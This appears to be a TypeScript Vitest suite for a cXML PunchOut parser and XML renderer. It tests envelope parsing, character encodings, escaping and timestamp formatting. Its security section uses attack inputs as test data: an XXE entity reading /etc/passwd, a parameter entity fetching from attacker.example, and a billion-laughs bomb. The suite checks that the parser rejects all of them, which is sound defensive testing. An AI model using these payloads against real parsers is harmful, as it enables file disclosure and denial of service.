import { describe, expect, it } from "vitest";
import {
  childElements,
  childText,
  cxmlDoctype,
  el,
  formatCxmlTimestamp,
  parseCxml,
  renderCxmlDocument,
  renderXml,
} from "@/lib/punchout/cxml/xml";
import { parseDoc, SHARED_FILES, sharedFile } from "./helpers";

const POSR = sharedFile("examples/PunchOutSetupRequest.xml").toString("utf8");

/** Minimal POSR; `cookie` and `name` are inserted verbatim (so callers can pass markup). */
function posr({ prolog = "", cookie = "cookie-1", name = "Jane" } = {}): string {
  return `${prolog}<cXML payloadID="p1@x" timestamp="2025-11-28T10:00:00+01:00">
<Header><From><Credential domain="NetworkID"><Identity>AN1</Identity></Credential></From>
<To><Credential domain="DUNS"><Identity>123</Identity></Credential></To>
<Sender><Credential domain="NetworkID"><Identity>AN1</Identity><SharedSecret>s</SharedSecret></Credential><UserAgent>UA</UserAgent></Sender></Header>
<Request><PunchOutSetupRequest operation="create"><BuyerCookie>${cookie}</BuyerCookie>
<Extrinsic name="FirstName">${name}</Extrinsic>
<BrowserFormPost><URL>https://buyer.example/return</URL></BrowserFormPost></PunchOutSetupRequest></Request></cXML>`;
}

const firstName = (xml: string | Buffer) => {
  const doc = parseDoc(xml);
  return childText(doc.payload!, "Extrinsic");
};

describe("parseCxml on every shared example and sample", () => {
  // Fragments / non-envelope documents that are well-formed but not a cXML envelope.
  const NOT_ENVELOPES: Record<string, string> = {
    "samples/friendsofcxml-cxml-php/Index.xml": "<Index>",
    "samples/officeluv-cxml/item_in.xml": "<ItemIn>",
  };

  it("finds the shared files", () => {
    expect(SHARED_FILES.filter(([file]) => file.startsWith("examples/")).length).toBeGreaterThanOrEqual(12);
    expect(SHARED_FILES.filter(([file]) => file.startsWith("samples/")).length).toBeGreaterThanOrEqual(20);
  });

  it.each(SHARED_FILES)("%s", (file, bytes) => {
    const result = parseCxml(bytes);
    const root = NOT_ENVELOPES[file];
    if (root) {
      expect(result).toMatchObject({ ok: false, error: { kind: "invalid-content", code: 400 } });
      if (!result.ok) expect(result.error.message).toContain(root);
      return;
    }
    expect(result.ok, result.ok ? "" : result.error.message).toBe(true);
    if (!result.ok) return;
    expect(result.value.payloadId).not.toBe("");
    if (result.value.kind === "Response") expect(result.value.status?.code).toMatch(/^\d{3}$/);
    else expect(result.value.header?.name).toBe("Header");
  });
});

describe("parseCxml envelope", () => {
  it("reads payloadID, timestamp, DOCTYPE, kind, payload and deploymentMode", () => {
    const doc = parseDoc(POSR);
    expect(doc).toMatchObject({
      payloadId: "1732780800123.4711.8f3a2c@buyer.example.com",
      timestamp: "2025-11-28T10:00:00+01:00",
      version: "1.2.063",
      lang: "en-US",
      kind: "Request",
      deploymentMode: "test",
      doctype: { dtd: "cXML.dtd", version: "1.2.063" },
      status: null,
    });
    expect(doc.payload?.name).toBe("PunchOutSetupRequest");
  });

  it("defaults deploymentMode to production and reads Response status", () => {
    const doc = parseDoc(sharedFile("examples/Response_401.xml"));
    expect(doc.deploymentMode).toBe("production");
    expect(doc.status).toEqual({ code: "401", text: "Unauthorized", message: "Sender credential or shared secret not recognised" });
  });

  it("keeps leading zeros, trailing zeros and exponent-like text as strings (P14)", () => {
    const doc = parseDoc(posr({ cookie: "000123", name: "1e5" }));
    expect(childText(doc.payload!, "BuyerCookie")).toBe("000123");
    expect(childText(doc.payload!, "Extrinsic")).toBe("1e5");
  });

  it("keeps a single repeatable element as a list (P15)", () => {
    const doc = parseDoc(posr());
    expect(childElements(doc.payload!, "Extrinsic")).toHaveLength(1);
  });

  it.each([
    ["decimal reference", "J&#252;rgen", "Jürgen"],
    ["hex reference", "J&#xFC;rgen", "Jürgen"],
    ["no double decoding", "&amp;#252;", "&#252;"],
    ["predefined entities", "A &amp; B &lt;C&gt; &quot;D&quot; &apos;E&apos;", `A & B <C> "D" 'E'`],
    ["CDATA", "<![CDATA[<b>&amp;</b>]]>", "<b>&amp;</b>"],
  ])("decodes %s (P16)", (_label, raw, expected) => {
    expect(firstName(posr({ name: raw }))).toBe(expected);
  });

  it.each([
    ["deploymentMode missing", "<Request>", "production"],
    ["deploymentMode test", '<Request deploymentMode="test">', "test"],
    ["deploymentMode Test (case)", '<Request deploymentMode="Test">', "test"],
  ])("%s", (_label, request, mode) => {
    expect(parseDoc(posr().replace("<Request>", request)).deploymentMode).toBe(mode);
  });

  it.each([
    ["unknown deploymentMode", posr().replace("<Request>", '<Request deploymentMode="staging">'), "deploymentMode"],
    ["missing payloadID", posr().replace('payloadID="p1@x"', ""), "payloadID"],
    ["Request without Header", posr().replace(/<Header>[\s\S]*<\/Header>/, ""), "Header"],
    ["empty Request", posr().replace(/<PunchOutSetupRequest[\s\S]*<\/PunchOutSetupRequest>/, ""), "exactly one request"],
    ["wrong root", "<Order><x/></Order>", "<Order>"],
    ["two bodies", posr().replace("</Request>", "</Request><Message/>"), "exactly one"],
    ["Response without Status", '<cXML payloadID="p" timestamp="t"><Response/></cXML>', "Status"],
  ])("well-formed but wrong content → 400: %s", (_label, xml, message) => {
    const result = parseCxml(xml);
    expect(result).toMatchObject({ ok: false, error: { kind: "invalid-content", code: 400 } });
    if (!result.ok) expect(result.error.message).toContain(message);
  });
});

describe("parseCxml leniency", () => {
  it("strips a UTF-8 BOM from a Buffer and from a string", () => {
    const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(posr({ prolog: '<?xml version="1.0" encoding="UTF-8"?>\n' }))]);
    expect(parseDoc(bytes).payloadId).toBe("p1@x");
    expect(parseDoc(bytes.toString("utf8")).payloadId).toBe("p1@x");
  });

  it("decodes ISO-8859-1 bytes (é = 0xE9) when the declaration says so", () => {
    const xml = posr({ prolog: '<?xml version="1.0" encoding="ISO-8859-1"?>\n', name: "Ren\u00e9 M\u00fcller" });
    const latin1 = Buffer.from(xml, "latin1");
    expect(latin1.includes(0xe9)).toBe(true);
    expect(firstName(latin1)).toBe("René Müller");
  });

  it("decodes UTF-16 with BOM", () => {
    const xml = posr({ name: "Zoë" });
    expect(firstName(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, "utf16le")]))).toBe("Zoë");
  });

  it("accepts no XML declaration and no DOCTYPE", () => {
    const doc = parseDoc(posr());
    expect(doc.doctype).toBeNull();
  });

  it.each([
    ["1.1.010", "cXML.dtd"],
    ["1.2.014", "cXML.dtd"],
    ["1.2.063", "Fulfill.dtd"],
  ])("accepts DOCTYPE %s %s", (version, dtd) => {
    const doc = parseDoc(posr({ prolog: `<?xml version="1.0"?>\n<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/${version}/${dtd}">\n` }));
    expect(doc.doctype).toMatchObject({ version, dtd });
  });

  it("accepts a lower-case <cxml> root (Office Depot sample)", () => {
    expect(parseDoc(sharedFile("samples/officeluv-cxml/punch_out_order_message_doc.xml")).kind).toBe("Message");
  });

  it("accepts leading whitespace before the declaration", () => {
    expect(parseDoc(`\n  ${posr({ prolog: '<?xml version="1.0"?>' })}`).payloadId).toBe("p1@x");
  });
});

describe("parseCxml security", () => {
  const dtd = (subset: string) => `<?xml version="1.0"?>\n<!DOCTYPE cXML [\n${subset}\n]>\n`;
  const laughs =
    '<!ENTITY lol "lol">\n' +
    Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ""};`.repeat(10)}">`).join("\n");

  it.each([
    ["internal entity declaration", posr({ prolog: dtd('<!ENTITY name "Mallory">'), name: "&name;" })],
    ["external entity (XXE)", posr({ prolog: dtd('<!ENTITY xxe SYSTEM "file:///etc/passwd">'), name: "&xxe;" })],
    ["parameter entity", posr({ prolog: dtd('<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;') })],
    ["billion laughs", posr({ prolog: dtd(laughs), name: "&lol9;" })],
    ["empty internal subset", posr({ prolog: `<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.063/cXML.dtd" []>` })],
  ])("refuses %s (406)", (_label, xml) => {
    expect(parseCxml(xml)).toMatchObject({ ok: false, error: { kind: "forbidden-dtd", code: 406 } });
  });

  it("refuses documents over maxBytes before parsing (406)", () => {
    const big = posr({ name: "x".repeat(2000) });
    expect(parseCxml(big, { maxBytes: 1000 })).toMatchObject({ ok: false, error: { kind: "too-large", code: 406 } });
    expect(parseCxml(Buffer.from(big), { maxBytes: 1000 })).toMatchObject({ ok: false, error: { kind: "too-large" } });
    expect(parseCxml(big, { maxBytes: 10_000 }).ok).toBe(true);
  });

  it("refuses the default 5 MiB limit", () => {
    const big = posr({ name: "x".repeat(5 * 1024 * 1024) });
    expect(parseCxml(big)).toMatchObject({ ok: false, error: { kind: "too-large" } });
  });

  it("refuses absurd nesting (406)", () => {
    const deep = `${"<a>".repeat(500)}${"</a>".repeat(500)}`;
    expect(parseCxml(posr({ name: deep }))).toMatchObject({ ok: false, error: { code: 406 } });
  });

  it.each([
    ["mismatched tags", posr().replace("</BuyerCookie>", "</Cookie>")],
    ["unclosed root", posr().replace("</cXML>", "")],
    ["bare ampersand", posr({ name: "Smith & Sons" })],
    ["undefined entity", posr({ name: "&nbsp;" })],
    ["two roots", `${posr()}<cXML/>`],
    ["text only", "this is not xml"],
    ["empty body", ""],
    ["invalid UTF-8", Buffer.concat([Buffer.from(posr().slice(0, 50)), Buffer.from([0xc3, 0x28]), Buffer.from(posr().slice(50))])],
    ["unknown encoding", Buffer.from(posr({ prolog: '<?xml version="1.0" encoding="x-klingon"?>' }))],
  ])("not well-formed → 406: %s", (_label, xml) => {
    expect(parseCxml(xml)).toMatchObject({ ok: false, error: { kind: "not-well-formed", code: 406 } });
  });
});

describe("rendering", () => {
  it("writes the declaration and DOCTYPE (P17)", () => {
    const xml = renderCxmlDocument({ payloadId: "p@shop", timestamp: new Date("2025-01-02T03:04:05.678Z") }, el("Response", null, el("Status", { code: 200, text: "OK" })));
    expect(xml).toBe(
      '<?xml version="1.0" encoding="UTF-8"?>\n' +
        '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.063/cXML.dtd">\n' +
        '<cXML version="1.2.063" payloadID="p@shop" timestamp="2025-01-02T03:04:05+00:00" xml:lang="en-US"><Response><Status code="200" text="OK"/></Response></cXML>\n',
    );
  });

  it.each([
    ["Fulfill.dtd", "1.2.063"],
    ["InvoiceDetail.dtd", "1.2.037"],
  ] as const)("DOCTYPE variant %s", (dtd, version) => {
    expect(cxmlDoctype(dtd, version)).toBe(`<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/${version}/${dtd}">`);
  });

  it("escapes markup, drops null parts and characters XML cannot carry", () => {
    expect(renderXml(el("A", { x: `"&<>'`, y: null }, "a & b < c", null, false, [el("B"), ["t\u0000\u0007"]]))).toBe(
      '<A x="&quot;&amp;&lt;&gt;&apos;">a &amp; b &lt; c<B/>t</A>',
    );
  });

  it.each([
    ["plain text", "Kopieerpapier A4, 80 g/m²", "Kopieerpapier A4, 80 g/m²"],
    ["tab, line feed and carriage return stay", "a\tb\nc\rd", "a\tb\nc\rd"],
    ["C0 controls go", "a\u0001b\u001Fc\u000Bd", "abcd"],
    ["a surrogate pair (astral character) stays", "pen \u{1F58A} blauw", "pen \u{1F58A} blauw"],
    ["a lone high surrogate goes", "a\uD83Db", "ab"],
    ["a lone low surrogate goes", "a\uDD8Ab", "ab"],
    ["U+FFFE and U+FFFF go, U+FFFD stays", "a\uFFFEb\uFFFFc\uFFFDd", "abc\uFFFDd"],
  ])("text and attributes: %s", (_label, input, expected) => {
    expect(renderXml(el("A", { x: input }, input))).toBe(`<A x="${expected}">${expected}</A>`);
  });

  it.each([
    ["no children", el("A"), "<A/>"],
    ["attributes only", el("A", { k: "v", n: 2 }), '<A k="v" n="2"/>'],
    ["only empty text", el("A", null, "", ""), "<A/>"],
    ["only characters XML cannot carry", el("A", { k: "v" }, "\u0001"), '<A k="v"/>'],
    ["whitespace is content", el("A", null, " "), "<A> </A>"],
    ["an empty child element is content", el("A", null, "", el("B")), "<A><B/></A>"],
    ["text that looks like an entity is escaped again", el("A", { k: "&amp;" }, "&lt;"), '<A k="&amp;amp;">&amp;lt;</A>'],
    ["attribute order as given", el("A", { z: "1", a: "2", m: "3" }), '<A z="1" a="2" m="3"/>'],
    ["mixed content keeps its order", el("A", null, "x", el("B", null, "y"), "z"), "<A>x<B>y</B>z</A>"],
  ])("element forms: %s", (_label, element, expected) => {
    expect(renderXml(element)).toBe(expected);
  });

  it("formats timestamps in UTC with offset and rejects invalid dates", () => {
    expect(formatCxmlTimestamp(new Date("2025-11-28T10:00:00+01:00"))).toBe("2025-11-28T09:00:00+00:00");
    expect(() => formatCxmlTimestamp(new Date("nope"))).toThrow(RangeError);
  });
});
